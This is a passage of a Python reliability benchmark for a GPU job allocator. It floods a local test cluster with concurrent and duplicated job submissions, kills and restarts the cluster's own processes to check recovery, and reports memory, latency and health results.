    request_ids: dict[str, str] = field(default_factory=dict)  # request id -> tenant
    acked: dict[str, set[str]] = field(default_factory=dict)  # request id -> job ids answered
    created: Counter = field(default_factory=Counter)  # request id -> answers with created=true
    calls: int = 0
    retries: int = 0
    errors: Counter = field(default_factory=Counter)  # final failures by code
    error_details: dict[str, str] = field(default_factory=dict)  # code -> one message seen with it
    seconds: float = 0.0

    @property
    def job_ids(self) -> set[str]:
        return {j for js in self.acked.values() for j in js}


def _job_spec(tenant: str, rng: random.Random, rate: float) -> tpb.JobSpec:
    """A small training job of 1-4 s alone on a GPU (shapes derived by the allocator from its model)."""
    return tpb.JobSpec(name="rel", tenant=tenant, kind=tpb.JOB_KIND_TRAINING, model_family="ResNet-18", batch_size=64,
                       training=tpb.TrainingWork(total_steps=max(1, int(rate * rng.uniform(1.0, 4.0)))))


async def _submit_all(run: Run, n: int, seed: int) -> Submitted:
    from services.node_agent.coloc import DEFAULT_ISOLATED_STEPS_PER_S, ColocationTruth

    rate = ColocationTruth.default().isolated("ResNet-18", 64, "v100", 1) or DEFAULT_ISOLATED_STEPS_PER_S
    rng = random.Random(seed + 1)
    sub = Submitted()
    tokens = {t: replace(run.cert_only(), token=tok) for t, tok in run.tenant_tokens.items()}
    chans = {t: tls.aio_channel(run.addr("allocator"), options=CHANNEL_OPTIONS) for t, tls in tokens.items()}
    stubs = {t: allocator_pb2_grpc.AllocatorStub(c) for t, c in chans.items()}
    tag = uuid.uuid4().hex[:8]
    reqs = []
    for i in range(n):
        tenant = TENANTS[i % len(TENANTS)]
        rid = f"rel-{tag}-{i}"
        sub.request_ids[rid] = tenant
        req = apb.SubmitJobRequest(request_id=rid, spec=_job_spec(tenant, rng, rate))
        copies = rng.choice([2, 3]) if rng.random() < 0.2 else 1  # a fifth sent 2-3 times at the same moment
        reqs += [(tenant, req)] * copies
    rng.shuffle(reqs)

    async def one(tenant: str, req: apb.SubmitJobRequest) -> None:
        for attempt in range(20):
            sub.calls += 1
            try:
                resp = await stubs[tenant].SubmitJob(req, timeout=30)
            except grpc.aio.AioRpcError as exc:
                if exc.code() in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.RESOURCE_EXHAUSTED,
                                  grpc.StatusCode.DEADLINE_EXCEEDED, grpc.StatusCode.ABORTED) and attempt < 19:
                    sub.retries += 1  # retried with the same request id: safe by contract
                    await asyncio.sleep(0.1 * (attempt + 1))
                    continue
                sub.errors[exc.code().name] += 1
                sub.error_details.setdefault(exc.code().name, f"{req.request_id}: {exc.details()}")
                return
            sub.acked.setdefault(req.request_id, set()).add(resp.job.job_id)
            if resp.created:
                sub.created[req.request_id] += 1
            return

    for c in chans.values():
        await c.channel_ready()
    t0 = time.perf_counter()
    await asyncio.gather(*(one(t, q) for t, q in reqs))
    sub.seconds = time.perf_counter() - t0
    for c in chans.values():
        await c.close()
    return sub


@dataclass
class Audit:
    listed: int = 0
    duplicated: int = 0  # request ids that map to more than one job (in answers or in the store)
    lost: int = 0  # acknowledged jobs the store does not have (or that carry another request id)
    created_twice: int = 0  # request ids answered created=true more than once
    states: Counter = field(default_factory=Counter)


def audit_jobs(run: Run, sub: Submitted) -> Audit:
    """Every job of the probe's tenants from ListJobs (operator), compared with what SubmitJob acknowledged."""
    a = Audit()
    by_request: dict[str, set[str]] = {}
    found: dict[str, tpb.Job] = {}
    with run.operator().channel(run.addr("allocator"), options=CHANNEL_OPTIONS) as ch:
        stub = allocator_pb2_grpc.AllocatorStub(ch)
        for tenant in TENANTS:
            token = ""
            while True:
                resp = _retry(lambda: stub.ListJobs(apb.ListJobsRequest(tenant=tenant, page_size=1000, page_token=token),
                                                    timeout=30))
                for j in resp.jobs:
                    if j.request_id in sub.request_ids:
                        by_request.setdefault(j.request_id, set()).add(j.job_id)
                        found[j.job_id] = j
                token = resp.next_page_token
                if not token:
                    break
        for rid, jobs in sub.acked.items():
            for job_id in jobs - set(found):  # not listed: ask for it directly before calling it lost
                try:
                    found[job_id] = _retry(lambda: stub.GetJob(apb.GetJobRequest(job_id=job_id), timeout=10)).job
                    by_request.setdefault(rid, set()).add(job_id)
                except grpc.RpcError as exc:
                    if exc.code() != grpc.StatusCode.NOT_FOUND:
                        raise
    a.listed = len(found)
    for rid in sub.request_ids:
        if len(by_request.get(rid, set()) | sub.acked.get(rid, set())) > 1:
            a.duplicated += 1
    for rid, jobs in sub.acked.items():
        a.lost += sum(1 for j in jobs if j not in found or found[j].request_id != rid)
    a.created_twice = sum(1 for k in sub.created.values() if k > 1)
    a.states = Counter(tpb.JobState.Name(j.state).removeprefix("JOB_STATE_") for j in found.values())
    return a


def _retry(fn, attempts: int = 60):
    """A call retried while the allocator is away (a fault on purpose) or slow."""
    for k in range(attempts):
        try:
            return fn()
        except grpc.RpcError as exc:
            if exc.code() not in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED) or k == attempts - 1:
                raise
            time.sleep(0.5)
    raise AssertionError("unreachable")


def concurrency(run: Run, n: int, seed: int) -> tuple[Submitted, Audit]:
    """Section 2: ``n`` SubmitJob at once from the tenant tokens, a fifth duplicated; audited at once."""
    section(f"2. concurrency: {n} SubmitJob at once from 2 tenant tokens, a fifth of the request ids sent 2-3 times "
        f"at the same moment")
    sub = asyncio.run(_submit_all(run, n, seed))
    a = audit_jobs(run, sub)
    say(f"submitted: {sub.calls} calls ({sub.retries} retried with the same request id) in {sub.seconds:.2f} s "
        f"({sub.calls / max(sub.seconds, 1e-9):.0f} calls/s); {len(sub.acked)}/{n} request ids acknowledged, "
        f"final errors: {dict(sub.errors) or 'none'}")
    for code, detail in sub.error_details.items():
        say(f"    e.g. {code}: {detail[:200]}")
    say(f"audit right after: {a.listed} jobs in the store for {len(sub.request_ids)} request ids; duplicated={a.duplicated} "
        f"lost={a.lost} created-twice={a.created_twice}; states {dict(a.states)}")
    return sub, a


# =====================================================================================================
# 3. faults: kill -9 of a node agent, the allocator leader and Redis while the jobs run
# =====================================================================================================
@dataclass
class Faults:
    lines: list[str] = field(default_factory=list)
    settled_s: float | None = None  # seconds until no job of the probe was PENDING or PLACED (None: not within the timeout)
    final: Audit | None = None


def kill_agent(run: Run, name: str) -> str:
    pid = run.pid(name)
    env = _proc_env(pid)  # the environment the cluster gave it (cluster.spawn knows only the services)
    running = _count_running(run, name)
    t0 = time.monotonic()
    _kill9(pid)
    with open(run.run_dir / "logs" / f"{name}.log", "ab") as log:
        p = subprocess.Popen([sys.executable, "-m", "services.node_agent"], env=env, cwd=str(REPO_ROOT),
                             stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    _save_pid(run, name, p.pid)
    cluster.wait_serving({"procs": [next(q for q in run.state["procs"] if q["name"] == name)], "client": run.state["client"]}, 60)
    return (f"kill -9 {name} (pid {pid}, {running} workloads running): restarted with its recorded environment, "
            f"SERVING after {time.monotonic() - t0:.1f} s, now running {_count_running(run, name)} (re-adopted)")


def _count_running(run: Run, name: str) -> int | str:
    try:
        with run.cert_only().channel(run.agents[name]) as ch:
            return len(node_agent_pb2_grpc.NodeAgentStub(ch).ListWorkloads(
                npb.ListWorkloadsRequest(statuses=["starting", "running"]), timeout=5).workloads)
    except grpc.RpcError as exc:
        return f"? ({exc.code().name})"


def _leader(run: Run) -> tuple[int, str]:
    with run.operator().channel(run.addr("allocator")) as ch:
        cs = allocator_pb2_grpc.AllocatorStub(ch).GetClusterState(apb.GetClusterStateRequest(), timeout=10)
    return cs.leader_epoch, cs.leader_id


def kill_allocator(run: Run) -> str:
    epoch, leader = _retry(lambda: _leader(run))
    pid = run.pid("allocator")
    t0 = time.monotonic()
    _kill9(pid)
    cluster.spawn("allocator", "allocator", timeout_s=60)
    run.refresh()
    t_serving = time.monotonic() - t0
    new_epoch = epoch
    while time.monotonic() - t0 < 60:
        with contextlib.suppress(grpc.RpcError):
            new_epoch, _ = _leader(run)
            if new_epoch > epoch:
                break
        time.sleep(0.2)
    return (f"kill -9 allocator leader (pid {pid}, epoch {epoch}, {leader}): cluster.spawn restarted it, SERVING after "
            f"{t_serving:.1f} s, leading under epoch {new_epoch} after {time.monotonic() - t0:.1f} s")


def kill_redis(run: Run) -> str:
    pid = run.pid("redis")
    port = int(run.addr("redis").rsplit(":", 1)[1])
    # the command line cluster.up ran (redis-server rewrites its own argv, so it is rebuilt, not read): same binary,
    # port, data dir with the AOF and ACL file (the users' hashes are already there and stay as they are)
    cmd = EmbeddedRedis(run.run_dir / "redis", port=port).command()
    client = redis.Redis.from_url(run.admin_url, socket_timeout=2)
    keys_before = client.dbsize()
    client.close()
    t0 = time.monotonic()
    _kill9(pid)
    p = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    _save_pid(run, "redis", p.pid)
    client = redis.Redis.from_url(run.admin_url, socket_timeout=1)
    while True:
        with contextlib.suppress(redis.exceptions.ConnectionError, redis.exceptions.BusyLoadingError):
            if client.ping():
                break
        if time.monotonic() - t0 > 30 or p.poll() is not None:
            raise RuntimeError("redis-server did not come back after kill -9")
        time.sleep(0.05)
    t_pong = time.monotonic() - t0
    keys_after = client.dbsize()
    client.close()
    line = (f"kill -9 redis (pid {pid}, {keys_before} keys): restarted from its command line (AOF replayed), PONG after "
            f"{t_pong:.1f} s with {keys_after} keys")
    if keys_after < keys_before:  # say why, from the restarted server's own log
        log = (run.run_dir / "redis" / "redis.log").read_text(errors="replace")
        replay = log[log.rfind(f"pid={p.pid}"):]
        errors = [ln for ln in replay.splitlines() if "CRITICAL" in ln or "NOPERM" in ln]
        line += (f"\n             !! Redis lost {keys_before - keys_after} keys in the restart; its log shows {len(errors)} "
                 f"AOF replay errors" + (f", e.g. {errors[0].split('# ', 1)[-1][:260]}" if errors else ""))
    return line


def unsettled(run: Run, sub: Submitted) -> tuple[int, int]:
    """(acknowledged jobs still PENDING or PLACED, acknowledged jobs the store no longer lists)."""
    waiting, listed = 0, set()
    with run.operator().channel(run.addr("allocator"), options=CHANNEL_OPTIONS) as ch:
        stub = allocator_pb2_grpc.AllocatorStub(ch)
        for tenant in TENANTS:
            token = ""
            while True:
                resp = stub.ListJobs(apb.ListJobsRequest(tenant=tenant, page_size=1000, page_token=token), timeout=30)
                for j in resp.jobs:
                    if j.request_id in sub.request_ids:
                        listed.add(j.job_id)
                        waiting += j.state in (tpb.JOB_STATE_PENDING, tpb.JOB_STATE_PLACED)
                token = resp.next_page_token
                if not token:
                    break
    return waiting, len(sub.job_ids - listed)


def faults(run: Run, sub: Submitted, settle_s: float) -> Faults:
    """Section 3: the three kills, one after another while the jobs run; then wait until the jobs settle."""
    section("3. faults while the jobs run (the sampler checks the invariants throughout)")
    f = Faults()
    t0 = time.monotonic()
    for fault in (lambda: kill_agent(run, "node-1"), lambda: kill_allocator(run), lambda: kill_redis(run)):
        line = fault()
        f.lines.append(line)
        say(f"  t={time.monotonic() - t0:5.1f} s  {line}")
        time.sleep(1.0)
    t_settle = time.monotonic()
    waiting = missing = None
    while time.monotonic() - t_settle < settle_s:
        with contextlib.suppress(grpc.RpcError):
            waiting, missing = unsettled(run, sub)
            if waiting == 0:  # nothing left that can still start (a missing job never comes back)
                if missing == 0:
                    f.settled_s = time.monotonic() - t0
                break
        time.sleep(1.0)
    f.final = audit_jobs(run, sub)
    if f.settled_s is not None:
        settled = f"all {len(sub.job_ids)} jobs terminal or running {f.settled_s:.1f} s after the first kill"
    elif waiting == 0:
        settled = (f"NOT settled: {missing} of {len(sub.job_ids)} acknowledged jobs are gone from the store (none is left "
                   f"pending or placed)")
    else:
        settled = (f"NOT settled within {settle_s:.0f} s: {waiting} still pending or placed, {missing} gone from the store "
                   f"(of {len(sub.job_ids)} acknowledged)")
    say(f"  {settled}")
    say(f"  audit after the faults: {f.final.listed} jobs; duplicated={f.final.duplicated} lost={f.final.lost}; "
        f"states {dict(f.final.states)}")
    return f


# =====================================================================================================
# 4. RSS
# =====================================================================================================
def rss(run: Run) -> dict[str, tuple[int, float]]:
    """name -> (pid, VmRSS MiB) of every process of the cluster."""
    run.refresh()
    out = {}
    for p in run.state["procs"]:
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/{p['pid']}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    out[p["name"]] = (p["pid"], int(line.split()[1]) / 1024)
    return out


def print_rss(start: dict, loaded: dict, end: dict, smoke: bool) -> list[tuple[str, float, float, bool]]:
    """Growth from start to after the load phases (same processes), judged against the bounds; the end column
    is shown too (a process restarted by the faults starts over there)."""
    section("4. RSS (VmRSS, MiB): start -> after hostile input + concurrency -> after the faults")
    rows = []
    for name, (pid, a) in start.items():
        b = loaded.get(name, (pid, math.nan))[1]
        epid, e = end.get(name, (0, math.nan))
        bound = RSS_BOUND_MB.get(name, RSS_BOUND_OTHER_MB)
        growth = max(b, e) - a if epid == pid else b - a
        ok = growth <= bound
        restarted = " (restarted during the faults)" if epid != pid else ""
        say(f"  {name:<10} {a:7.1f} -> {b:7.1f} -> {e:7.1f}{restarted}   growth {growth:+7.1f} MiB (bound <= {bound:.0f})"
            f"  [{'smoke: not judged' if smoke else ('PASS' if ok else 'FAIL')}]")
        rows.append((name, growth, bound, ok))
    return rows


# =====================================================================================================
# 5. GetClusterState latency with many finished jobs in the store
# =====================================================================================================
async def _insert_finished(admin_url: str, n: int) -> float:
    store = RedisStore.from_url(admin_url, namespace=NAMESPACE)
    spec = JobSpec(kind=JobKind.TRAINING, tenant="archive", model_family="ResNet-18", batch_size=64, training=TrainingWork(1000))
    tag = uuid.uuid4().hex[:8]
    t0 = time.perf_counter()
    try:
        for start in range(0, n, 500):
            # written finished from the start (the same create_jobs transaction, state SUCCEEDED): never in the active
            # set, so the live scheduler never sees them pending
            await store.create_jobs([Job(job_id=f"fin-{tag}-{i}", request_id=f"fin-{tag}-{i}", spec=spec, state=JobState.SUCCEEDED,
                                         reason=StateReason.COMPLETED, progress_steps=1000.0)
                                     for i in range(start, min(n, start + 500))])
    finally:
        await store.close()
    return time.perf_counter() - t0


def cluster_state_latency(run: Run, finished: int) -> tuple[float, float, int]:
    section(f"5. GetClusterState latency with {finished} finished jobs written to the store")
    secs = asyncio.run(_insert_finished(run.admin_url, finished))
    total = redis.Redis.from_url(run.admin_url).zcard("{" + NAMESPACE + "}:jobs")
    lat = []
    with run.operator().channel(run.addr("allocator"), options=CHANNEL_OPTIONS) as ch:
        stub = allocator_pb2_grpc.AllocatorStub(ch)
        stub.GetClusterState(apb.GetClusterStateRequest(), timeout=30)  # warm the channel
        for _ in range(CLUSTER_STATE_CALLS):
            t0 = time.perf_counter()
            stub.GetClusterState(apb.GetClusterStateRequest(), timeout=30)
            lat.append(time.perf_counter() - t0)
    lat.sort()
    p50, p99 = statistics.median(lat), lat[min(len(lat) - 1, int(0.99 * len(lat)))]
    say(f"  inserted {finished} in {secs:.1f} s (store holds {total} jobs in all); {CLUSTER_STATE_CALLS} calls: "
        f"p50 {p50 * 1e3:.1f} ms, p99 {p99 * 1e3:.1f} ms, max {lat[-1] * 1e3:.1f} ms (target p50 <= {TARGET_CS_P50_S * 1e3:.0f} ms)")
    return p50, p99, total


# =====================================================================================================
# 6. health
# =====================================================================================================
def health(run: Run) -> dict[str, str]:
    section("6. health after everything")
    run.refresh()
    out = {}
    for p in run.state["procs"]:
        if p["name"] == "redis":
            try:
                out["redis"] = "PONG" if redis.Redis.from_url(run.admin_url, socket_timeout=2).ping() else "NO PONG"
            except redis.exceptions.RedisError as exc:
                out["redis"] = f"UNREACHABLE ({exc})"
        else:
            out[p["name"]] = health_status(p["address"], timeout_s=5, tls=run.cert_only())
    say("  " + "  ".join(f"{k} {v}" for k, v in out.items()))
    return out


def teardown(run: Run | None, sampler: Sampler | None, tmp: Path, keep: bool = False) -> None:
    """Stop the sampler and the cluster whatever happened; kill anything of this run that is still alive."""
    if sampler is not None:
        with contextlib.suppress(Exception):
            sampler.stop()
    if run is not None:
        try:
            cluster.down(quiet=True)
        finally:
            for pid in leftover_workloads(run.run_dir):  # e.g. a workload orphaned by a failed restart (none expected)
                say(f"WARNING: process {pid} of this run outlived the cluster; killed")
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
    if keep:
        say(f"run directory kept: {tmp}")
    else:
        shutil.rmtree(tmp, ignore_errors=True)


# =====================================================================================================
# main
# =====================================================================================================
def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.reliability", description=__doc__.split("\n\n")[0])
    ap.add_argument("--smoke", action="store_true", help="reduced sizes (< 90 s); speed and memory targets not judged")
    ap.add_argument("--seed", type=int, default=0, help="seed of every hostile request and job (default 0)")
    ap.add_argument("--keep", action="store_true", help="keep the run directory (logs, Redis data) for inspection")
    args = ap.parse_args(argv)
    mode = "smoke" if args.smoke else "full"
    size = SIZES[mode]
    say(f"bench.reliability [{mode}]: live local cluster (cluster.up(2): embedded Redis, pricer, predictor, allocator, "
        f"2 node agents x 4 simulated V100), mTLS + tokens, seed {args.seed}")
    t_start = time.monotonic()
    tmp = Path(tempfile.mkdtemp(prefix="elastico-reliability-"))
    tmp.chmod(0o755)  # a root cluster's workloads run as nobody and must enter the run dir
    os.chdir(REPO_ROOT)
    run = None
    sampler = None
    try:
        run = start_cluster(tmp)
        say(f"cluster up in {time.monotonic() - t_start:.1f} s: " + ", ".join(f"{p['name']} {p['address'] or ''}".strip()
                                                                              for p in run.state["procs"]))
        sampler = Sampler(run)
        sampler.start()
        rss_start = rss(run)
        hostile = hostile_input(run, size["hostile"], args.seed)
        sub, first = concurrency(run, size["jobs"], args.seed)
        rss_loaded = rss(run)
        f = faults(run, sub, size["settle_s"])
        counts = sampler.stop()
        sampler = None
        say(f"  sampler (from start to here): {counts.samples} samples, {counts.gpu_samples} GPU-samples; oversubscribed "
            f"{counts.oversubscribed} (committed {counts.oversubscribed_committed}, running {counts.oversubscribed_running}); "
            f"running twice {counts.running_twice}; max committed share seen {counts.max_share_seen:.0f}%; "
            f"unreachable during the faults: store {counts.store_unreachable}, agents {counts.agent_unreachable}")
        for d in counts.details:
            say(f"    {d}")
        rss_rows = print_rss(rss_start, rss_loaded, rss(run), args.smoke)
        p50, p99, total_jobs = cluster_state_latency(run, size["finished"])
        healthy = health(run)
    finally:
        teardown(run, sampler, tmp, keep=args.keep)

    # ---- summary --------------------------------------------------------------------------------------
    unknown = sum(r.codes["UNKNOWN"] for r in hostile.values())
    internal = sum(r.codes["INTERNAL"] for r in hostile.values())
    lost = max(first.lost, f.final.lost)
    duplicated = max(first.duplicated, f.final.duplicated)
    judge = (lambda ok: "smoke: not judged") if args.smoke else (lambda ok: "PASS" if ok else "FAIL")
    gate = lambda ok: "PASS" if ok else "FAIL"  # noqa: E731 - correctness: judged in both modes, sets the exit code
    rows = [
        ("hostile: UNKNOWN (all services)", str(unknown), "0", gate(unknown == 0)),
        ("hostile: INTERNAL (all services)", str(internal), "0", judge(internal == 0) if internal else "PASS"),
        ("concurrency: duplicated request ids", str(duplicated), "0", gate(duplicated == 0)),
        ("concurrency: lost acknowledged jobs", str(lost), "0", gate(lost == 0)),
        ("concurrency: created=true twice", str(first.created_twice), "0", gate(first.created_twice == 0)),
        ("faults: oversubscribed GPU-samples", str(counts.oversubscribed), "0", gate(counts.oversubscribed == 0)),
        ("faults: workloads running twice", str(counts.running_twice), "0", gate(counts.running_twice == 0)),
        ("faults: all jobs terminal or running", "yes" if f.settled_s is not None else "no", "yes",
         judge(f.settled_s is not None)),
        *((f"RSS growth {name}", f"{g:+.1f} MiB", f"<= {b:.0f} MiB", judge(ok)) for name, g, b, ok in rss_rows),
        (f"GetClusterState p50 ({total_jobs} jobs)", f"{p50 * 1e3:.1f} ms", f"<= {TARGET_CS_P50_S * 1e3:.0f} ms",
         judge(p50 <= TARGET_CS_P50_S)),
        ("GetClusterState p99", f"{p99 * 1e3:.1f} ms", "-", "info"),
        ("health after everything", ", ".join(sorted(set(healthy.values()))), "SERVING/PONG",
         judge(all(v in ("SERVING", "PONG") for v in healthy.values()))),
    ]
    say(f"\nSUMMARY [{mode}] ({time.monotonic() - t_start:.0f} s)")
    say(f"  {'check':<42} {'value':>16}  {'target':>14}  verdict")
    for name, value, target, verdict in rows:
        say(f"  {name:<42} {value:>16}  {target:>14}  {verdict}")
    correct = unknown == 0 and lost == 0 and duplicated == 0 and counts.oversubscribed == 0 and counts.running_twice == 0
    say(f"correctness: {'PASS' if correct else 'FAIL'} (UNKNOWN, lost, duplicated, oversubscribed, running twice)")
    return 0 if correct else 1


if __name__ == "__main__":
    sys.exit(main())
